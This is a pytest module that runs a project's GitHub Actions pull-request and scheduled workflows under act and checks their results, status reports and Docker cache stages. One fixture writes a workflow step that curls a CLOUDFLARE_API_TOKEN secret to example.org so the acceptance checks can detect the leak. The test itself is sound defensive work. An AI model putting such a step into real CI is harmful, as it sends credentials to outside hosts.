"""The workflows of pull requests and of GitHub's clock, unchanged, under act."""

from collections.abc import Iterator
from datetime import UTC, datetime
from uuid import uuid4

import pytest

from harness.docker import builders
from harness.docker.cache_keys import cache_keys, next_month, next_week
from harness.docker.production import Wanted, build_production
from harness.engine.model import Engine
from harness.fixtures.pushes import Pushes
from harness.github.act import SCHEDULE, Acted, pull_request
from harness.github.workflow import DIRECTORY, Workflow
from harness.project import Project

pytestmark = [
    pytest.mark.engine,
    pytest.mark.slow,
    pytest.mark.long,
    pytest.mark.xdist_group("pushed"),
]

NUMBER = 12
# In the order in which act tells of them.
ALL = "accept and lint and tests"
# What is checked is the business of a whole run; here each command has a little of it to do.
TESTS = ("tests/__init__.py", "tests/conftest.py", "tests/test_envfile.py")
CHECKS = ("acceptance/conftest.py", "acceptance/criteria.toml", "acceptance/test_nfr4_secrets.py")
# A step that needs no shell, and is another one for each key.
DOCKERFILE = """FROM scratch AS rust-builder
ARG RUST_CACHE_KEY
COPY deploy/pushed /{unique}/${{RUST_CACHE_KEY}}/
FROM scratch AS python-builder
ARG PYTHON_CACHE_KEY
COPY deploy/pushed /{unique}/${{PYTHON_CACHE_KEY}}/
FROM scratch AS runtime
COPY --from=rust-builder /{unique} /rust
COPY --from=python-builder /{unique} /python
"""


@pytest.fixture(scope="module", autouse=True)
def _little_to_check(pushed: Pushes) -> None:
    root = pushed.project.root
    for path in [*root.glob("tests/**/*"), *root.glob("acceptance/**/*")]:
        if path.is_file() and path.relative_to(root).as_posix() not in {*TESTS, *CHECKS}:
            path.unlink()


def workflow(pushed: Pushes, name: str) -> Workflow:
    return Workflow.read(pushed.project.root, f"{DIRECTORY}/{name}")


def asked_for(pushed: Pushes) -> tuple[str, Acted]:
    """Run what a pull request of all that has changed is checked by."""
    commit = pushed.commit()
    happening = pull_request(NUMBER, commit, pushed.github.repository)
    return commit, pushed.run(workflow(pushed, "acceptance.yml"), happening)


def results(acted: Acted) -> dict[str, str]:
    return {name: it.result for name, it in acted.jobs.items()}


def told(pushed: Pushes, commit: str) -> tuple[str, str]:
    (status,) = pushed.github.state.statuses[commit]
    return status["state"], status["description"]


def comment(pushed: Pushes) -> str:
    (found,) = pushed.github.state.comments[NUMBER]
    return str(found["body"])


def test_a_pull_request_that_is_well_is_told_so(pushed: Pushes) -> None:
    commit, acted = asked_for(pushed)
    assert results(acted) == dict.fromkeys(("lint", "tests", "accept", "notify"), "success")
    assert told(pushed, commit) == ("success", f"{ALL} passed")
    assert f"acceptance: {ALL} passed" in comment(pushed)
    assert "| ✅ | **NFR-4.3** " in comment(pushed)
    assert " passed" in acted.jobs["tests"].output
    assert "All checks passed!" in acted.jobs["lint"].output


@pytest.fixture
def _ill(pushed: Pushes) -> Iterator[None]:
    """Make something that each job has to find."""
    test, deploy = (pushed.project.root / it for it in (TESTS[2], f"{DIRECTORY}/leak.yml"))
    before = test.read_text(encoding="utf-8")
    test.write_text(f"{before}\n\ndef test_it():\n    import os\n    assert False\n", "utf-8")
    deploy.write_text(
        "on: push\njobs:\n  leak:\n    runs-on: ubuntu-latest\n"
        "    steps: [{run: 'curl example.org/${{ secrets.CLOUDFLARE_API_TOKEN }}'}]\n",
        encoding="utf-8",
    )
    yield
    test.write_text(before, encoding="utf-8")
    deploy.unlink()


@pytest.mark.usefixtures("_ill")
def test_one_that_is_not_is_told_what_failed(pushed: Pushes) -> None:
    commit, acted = asked_for(pushed)
    assert results(acted) == {
        **dict.fromkeys(("lint", "tests", "accept"), "failure"),
        "notify": "success",
    }
    assert told(pushed, commit) == ("failure", f"{ALL} failed")
    said = comment(pushed)
    assert f"acceptance: {ALL} failed" in said
    assert "leak.yml" in said.partition("All criteria")[0]
    assert "F401" in acted.jobs["lint"].output
    assert "test_it" in acted.jobs["tests"].output


def test_the_stages_of_the_time_to_come_are_built_by_the_clock(
    pushed: Pushes, docker: Engine
) -> None:
    unique = uuid4().hex
    project = pushed.project
    dockerfile = project.root / project.config.image.dockerfile
    dockerfile.write_text(DOCKERFILE.format(unique=unique), encoding="utf-8")
    now = datetime.now(UTC)
    pushed.commit()
    acted = pushed.run(workflow(pushed, "stages.yml"), SCHEDULE)
    assert results(acted) == {"stages": "success", "publish": "success"}
    # Of both kinds of machine there is one here.
    assert "-arm64: there is no such image, so it is left out" in acted.jobs["publish"].output
    assert _cached(project, docker, now) == {"rust-builder": 1, "python-builder": 1, "runtime": 0}


def _cached(project: Project, docker: Engine, now: datetime) -> dict[str, int]:
    """Return how many steps of each stage are there when the next week and month have come."""
    coming = {
        **cache_keys(project.root, next_week(now)),
        "RUST_CACHE_KEY": cache_keys(project.root, next_month(now))["RUST_CACHE_KEY"],
    }
    wanted = Wanted(cache_only=True, builder=builders.exporting(docker), build_args=coming)
    built = build_production(project, docker, wanted)
    return {it.stage: it.cached for it in built.stages}
